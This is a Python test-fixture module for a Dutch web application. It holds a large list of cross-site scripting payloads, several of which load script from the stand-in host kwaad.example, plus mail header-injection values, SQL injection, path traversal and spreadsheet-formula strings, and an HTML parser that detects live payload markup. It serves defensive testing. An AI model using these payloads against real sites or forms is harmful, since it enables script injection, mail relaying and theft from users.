"""What people and robots send that is no plain Dutch: for every form, own page, mail and file (faults 31, 32, 38).

One list for all tests. `alive` says what of it came alive in a page.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

# Fault 32. Each would run `alert(1)` or load from kwaad.example somewhere if it were written out as it is.
XSS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//kwaad.example/x.js></script>",
    "<script type=module>import('//kwaad.example/x.js')</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) x=`",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>klik</text></a></svg>",
    "<math><mtext></mtext><mglyph><img src=x onerror=alert(1)></math>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=kwaad.class></applet>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>klik</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href=JaVaScRiPt:alert(1)>klik</a>",
    "<a href='java&#x0A;script:alert(1)'>klik</a>",
    "<a href=data:text/html,<script>alert(1)</script>>klik</a>",
    "<a href=//kwaad.example ping=//kwaad.example>klik</a>",
    "<link rel=stylesheet href=//kwaad.example/x.css>",
    "<style>@import '//kwaad.example/x.css';</style>",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "<div style='width:expression(alert(1))'>",
    "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<p id=csrfmiddlewaretoken name=cookie>",
    "javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${alert(1)}#{alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "[klik](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
)

# Fault 38: texts that must come back as they went in.
KEPT = (
    "O'Brien-'t Hooft",
    "Nguyễn",
    "İstanbul-plein en Straße",
    "🌳👩‍👩‍👧‍👦🇳🇱 een boom voor iedereen",
    "𠜎𠜱𝒳 vier bytes",
    "مرحبا بالجيران",
    "שלום שכנים",
    "你好，邻居",
    "Ẑ̴a̴l̴g̴o̴ in de straat",
    "crème brûlée à la carte",
    "' OR 1=1; DROP TABLE wijk; --",
    '=HYPERLINK("https://kwaad.example")',
    "../../etc/passwd",
    "%2568%2574%2574%2570",
    "50% korting & <3 voor de buurt",
    "\\n \\0 \\x00",
    "null",
    "None",
    "NaN",
)
# As typed, and as stored: what nobody sees is left out, letters and accents are joined.
TIDIED = (
    ("a\x00b", "ab"),
    ("recht\u202eskni", "rechtskni"),
    ("\u2067rtl\u2069 afgesloten", "rtl afgesloten"),
    ("zacht\u00adstreepje", "zachtstreepje"),
    ("niets\u200btussen", "nietstussen"),
    ("\ufeffbegin", "begin"),
    ("\u2060woord\u2060", "woord"),
    ("bel\x07 en \x1b[31mrood", "bel en [31mrood"),
    ("cafe\u0301", "caf\u00e9"),
)
TOO_LONG = "x" * 10_000

# Fault 31: what would make a mail a relay. Each holds something that must not become a link or a header.
LINKS = (
    "Kijk op https://kwaad.example/gratis",
    "http://kwaad.example",
    "HTTPS://KWAAD.EXAMPLE",
    "www.kwaad.example",
    "kwaad.example/gratis",
    "evil\u2024com",
    "%2568%2574%2574%2570%253A%252F%252Fkwaad.example",
    "hxxp://kwaad[.]example",
    "<a href='https://kwaad.example'>klik</a>",
    "[klik](https://kwaad.example)",
    "mailto:iemand@kwaad.example",
    "iemand@kwaad.example",
    "xn--kwaad-example.example",
)
HEADERS = (
    "Jan\r\nBcc: iemand@kwaad.example",
    "Jan\nBcc: iemand@kwaad.example",
    "Jan\rBcc: iemand@kwaad.example",
    "Jan%0d%0aBcc: iemand@kwaad.example",
    "Jan\u2028Bcc: iemand@kwaad.example",
    "Jan\r\n\r\n<html>ander bericht</html>",
    "=?utf-8?q?=0D=0ABcc:_iemand@kwaad.example?=",
)

_HANDLER = re.compile(r"on[a-z]+", re.ASCII)
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "ping", "srcset"})
_SKIPPED = re.compile(r"[\x00-\x20]+")
_HOSTILE = re.compile(r"^(javascript|vbscript|data:text)|^([a-z]+:)?[/\\]*kwaad\.example", re.I)
_DATA = ("application/json", "application/ld+json")


class _Alive(HTMLParser):
    """Reads a page as a browser does, and writes down what of a payload became markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            # A browser leaves out white space and controls before it looks at the scheme.
            is_hostile = name in _ADDRESSES and _HOSTILE.search(_SKIPPED.sub("", value or ""))
            if _HANDLER.fullmatch(name) or name in ("style", "srcdoc", "http-equiv") or is_hostile:
                self.found.append(f"<{tag} {name}={value}>")
        if tag in ("applet", "object", "embed", "base", "marquee", "xss"):
            self.found.append(f"<{tag}>")
        is_code = tag == "script" and dict(attrs).get("type") not in _DATA
        self._in_script = is_code or tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and ("alert(1)" in data or "kwaad.example" in data):
            self.found.append(f"script: {data[:60]}")


def alive(html: str) -> list[str]:
    """What came alive in a page: handlers, hostile addresses, scripts and frames of a payload; [] when it is inert.

    For pages of our own, which have no inline handler, style or script (docs/architecture.md, rule 14).
    """
    reader = _Alive()
    reader.feed(html)
    reader.close()
    return reader.found
